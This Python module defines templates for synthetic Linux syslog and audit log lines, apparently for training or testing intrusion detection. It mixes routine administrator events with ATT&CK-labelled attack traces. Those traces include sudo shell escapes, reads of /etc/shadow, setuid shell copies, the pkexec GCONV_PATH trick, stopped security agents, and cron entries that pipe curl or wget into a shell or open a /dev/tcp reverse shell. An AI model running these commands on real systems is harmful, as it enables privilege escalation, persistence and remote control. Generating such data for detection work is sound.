# ruff: noqa: E501
"""More of what Linux hosts say: accounts, sudo, su, polkit, timers and the kernel in syslog; audit records that hold no command.

Rows are as in linux_tables.py; linux.py puts both together.
"""
from __future__ import annotations

from .table import table

MORE_SYSLOG = table(r"""
# accounts kept by administrators
useradd: new user: name=«prometheus|postgres|jenkins|«first»|svc-«word»|node_exporter», UID=«num:110:2000», GID=«num:110:2000», home=/«home/«first»|var/lib/«word»|nonexistent», shell=/«bin/bash|usr/sbin/nologin|bin/false», from=«none|/dev/pts/«num:0:5»»
usermod: «add '«user»' to group '«docker|sudo|wheel|adm|www-data|libvirt»'|change user '«first»' shell from '/bin/sh' to '/bin/bash'|change user '«first»' expiration from 'never' to '«year»-12-31'»
passwd: pam_unix(passwd:chauthtok): password changed for «user»
chage: changed password expiry for «user»
groupadd: «new group: name=«word», GID=«num:1001:3000»|group added to /etc/group: name=«word», GID=«num:110:3000»»
userdel: «delete user '«first»'|removed group '«first»' owned by '«first»'»
sudo:   «admin» : TTY=pts/«num:0:5» ; PWD=/home/«admin» ; USER=root ; COMMAND=/usr/«bin/«visudo -c|less /var/log/auth.log|systemctl stop auditd|tcpdump -ni eth0|chattr -i /etc/resolv.conf|find / -xdev -perm -4000|docker exec -it «word» bash|passwd «user»|crontab -l -u www-data»|sbin/«useradd -m «first»|usermod -aG docker «user»|iptables -L -n»»
pkexec: «user»: Executing command [USER=root] [TTY=unknown] [CWD=/home/«user»] [COMMAND=/usr/«lib/update-notifier/package-system-locked|bin/gnome-control-center|sbin/gparted|lib/gnome-settings-daemon/gsd-backlight-helper»]
polkitd: Operator of unix-session:«num:1:90» successfully authenticated as unix-user:«user» to gain TEMPORARY authorization for action org.freedesktop.«systemd1.manage-units|packagekit.system-update|udisks2.filesystem-mount» for system-bus-name::1.«num:20:900» [systemctl restart «word»] (owned by unix-user:«user»)
systemd: «Started|Stopped|Reloaded» «Security Auditing Service|System Logging Service|Wazuh agent|firewalld - dynamic firewall daemon|OpenBSD Secure Shell server|Docker Application Container Engine|Falco: Container Native Runtime Security».
kernel: [«num:1:999999».«num:100000:999999»] «audit: type=1400 audit(«epoch».«num:100:999»:«num:10:900»): apparmor="DENIED" operation="open" profile="snap.«word».«word»" name="/proc/«num:1:9999»/mounts" comm="«word»"|device «eth0|br0» entered promiscuous mode|«nvidia|vboxdrv|zfs»: loading out-of-tree module taints kernel.|«word»[«num:100:9999»]: segfault at «num:0:9» ip 00007f«hex:10» sp 00007ff«hex:9» error 4 in libc.so.6|Out of memory: Killed process «num:100:9999» («java|python3|mysqld») total-vm:«num:100000:9999999»kB»
# T1136.001 accounts made in secret
useradd: new user: name=«systemd-«letters:4»|«letters:5»|ftpuser«num:1:9»|support«num:1:9»», UID=«0|«num:900:1100»», GID=«0|«num:900:1100»», home=/«tmp|root|dev/shm|var/tmp/.«letters:3»», shell=/bin/«bash|sh», from=none
usermod: «add '«www-data|nobody|games|mysql|«letters:5»»' to «shadow |»group '«sudo|wheel|root|shadow|docker»'|change user '«nobody|daemon|www-data|lp»' shell from '/usr/sbin/nologin' to '/bin/bash'|change user '«letters:5»' UID from '«num:1000:1100»' to '0'»
passwd: pam_unix(passwd:chauthtok): password changed for «nobody|daemon|www-data|games|sync|root»
# T1548.003 rights taken by sudo and polkit
sudo: «www-data|nobody|postgres|tomcat|«user»» : user NOT in sudoers ; TTY=«unknown|pts/«num:0:5»» ; PWD=/«tmp|var/www/html|dev/shm» ; USER=root ; COMMAND=/«bin/bash|bin/sh -i|usr/bin/id|usr/bin/cat /etc/shadow»
sudo:   «www-data|tomcat|«user»» : TTY=«unknown|pts/«num:0:5»» ; PWD=/«tmp|var/www/html|dev/shm|var/tmp» ; USER=root ; COMMAND=/usr/bin/«find . -exec /bin/sh ; -quit|vim -c :!/bin/sh|awk BEGIN {system("/bin/sh")}|tee -a /etc/sudoers.d/«letters:4»|cp /bin/bash /tmp/.«letters:3»|chmod u+s /tmp/.«letters:3»|env /bin/sh|tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec=/bin/sh|dd of=/root/.ssh/authorized_keys»
pkexec: «user»: The value for the SHELL variable was not found the /etc/shells file [USER=root] [TTY=«/dev/pts/«num:0:5»|unknown»] [CWD=/«tmp|dev/shm|home/«user»/Downloads»] [COMMAND=«GCONV_PATH=./«letters:5» PATH=GCONV_PATH=.|/usr/bin/«letters:5»»]
su: (to root) «www-data|nobody|postgres|tomcat» on «pts/«num:0:5»|none»
# T1547.006 kernel parts slipped in
kernel: [«num:1:999999».«num:100000:999999»] «««letters:6»|«word»»: loading out-of-tree module taints kernel.|««letters:6»|rootkit|«letters:4»_lkm»: module verification failed: signature and/or required key missing - tainting kernel|process '/«tmp|dev/shm|var/tmp»/.«letters:4»' started with executable stack|«letters:4»[«num:100:9999»] is installing a program with bpf_probe_write_user helper that may corrupt user memory!|traps: «polkitd|sudo|snap-confine|pkexec»[«num:100:9999»] general protection fault ip:«hex:12» sp:«hex:12» error:0»
# T1562.001 guards stopped by hand
systemd: «Stopped|Stopping» «Security Auditing Service|System Logging Service|Wazuh agent|osqueryd|Falco: Container Native Runtime Security|Auditbeat|CrowdStrike Falcon Sensor|fail2ban|ClamAV userspace daemon».
auditd: «The audit daemon is exiting.|Audit daemon rotating log files with config /tmp/.«letters:4»»
# T1543.002 services and timers implanted
systemd: Started ««letters:7»|kworker-helper|systemd-«letters:5»|dbus-«letters:4»» «service|daemon» (/«tmp|dev/shm|var/tmp|home/«user»/.cache»/«.|»«letters:4» -«letters:1»).
CRON: («root|www-data|«user»») CMD («/«tmp|dev/shm|var/tmp»/.«letters:4» >/dev/null 2>&1|curl -fsSL http://«peer»/«letters:3» ¦ sh|wget -qO- «domain»/«letters:4» ¦ bash|echo «shbad» ¦ base64 -d ¦ sh|bash -i >& /dev/tcp/«peer»/«port» 0>&1»)
""")

MORE_RECORDS = table(r"""
# audit records of kept hosts
ADD_USER pid=«num:300:60000» uid=0 auid=«num:1000:2000» ses=«num:1:900» msg='op=«adding user|add-user» acct="«first»" exe="/usr/sbin/useradd" hostname=«linux» addr=? terminal=pts/«num:0:5» res=success'
ADD_GROUP pid=«num:300:60000» uid=0 auid=«num:1000:2000» ses=«num:1:900» msg='op=add-group acct="«word»" exe="/usr/sbin/groupadd" hostname=«linux» addr=? terminal=pts/«num:0:5» res=success'
SERVICE_«STOP|START» pid=1 uid=0 auid=4294967295 ses=4294967295 msg='unit=«auditd|rsyslog|sshd|docker|cron|apt-daily|fwupd-refresh|«word»|systemd-tmpfiles-clean|snapd|firewalld» comm="systemd" exe="/usr/lib/systemd/systemd" hostname=? addr=? terminal=? res=success'
CONFIG_CHANGE auid=4294967295 ses=4294967295 op=add_rule key="«identity|exec|time-change|logins»" list=4 res=1
PATH item=«0|1» name="/«etc/«passwd|shadow|resolv.conf|ld.so.cache|cron.d/«word»|sudoers»|var/log/«syslog|auth.log|wtmp»|home/«user»/.ssh/known_hosts|root/.bashrc|usr/lib/systemd/system/«word».service|tmp/«token:8»»" inode=«num:1000:9999999» dev=08:02 mode=0100«644|640|600|755» ouid=0 ogid=0 rdev=00:00 nametype=«NORMAL|CREATE|DELETE»
# T1136.001 audit accounts in secret
ADD_USER pid=«num:300:60000» uid=0 auid=«4294967295|33|48» ses=«4294967295|«num:1:900»» msg='op=«adding user|add-user» acct="««letters:5»|systemd-«letters:4»|www-data2|toor»" exe="/usr/sbin/useradd" hostname=? addr=? terminal=? res=success'
USER_MGMT pid=«num:300:60000» uid=0 auid=«4294967295|33|48» ses=4294967295 msg='op=add-user-to-group grp="«sudo|wheel|root»" acct="«www-data|nobody|«letters:5»»" exe="/usr/sbin/usermod" hostname=? addr=? terminal=? res=success'
# T1562.012 audit stopped by hand
SERVICE_STOP pid=1 uid=0 auid=4294967295 ses=4294967295 msg='unit=«auditd|rsyslog|wazuh-agent|falco|falcon-sensor|osqueryd|auditbeat|fail2ban» comm="systemd" exe="/usr/lib/systemd/systemd" hostname=? addr=? terminal=? res=success'
CONFIG_CHANGE auid=«num:1000:2000» ses=«num:1:900» op=«remove_rule key="«identity|exec|logins»" list=4|set audit_enabled=0 old=1» res=1
# T1574.006 audit files of implants
PATH item=«0|1» name="/«etc/«ld.so.preload|sudoers.d/«letters:4»|cron.d/.«letters:4»|pam.d/«letters:5»|profile.d/.«letters:3».sh»|root/.ssh/authorized_keys|dev/shm/.«letters:4»|var/tmp/.«letters:5»|lib/security/pam_«letters:4».so|lib/modules/«letters:6».ko|tmp/.«letters:3»/«letters:4»|var/www/html/uploads/«letters:5».php»" inode=«num:1000:9999999» dev=08:02 mode=0«100777|100755|104755|106755» ouid=«0|33» ogid=«0|33» rdev=00:00 nametype=CREATE
""")
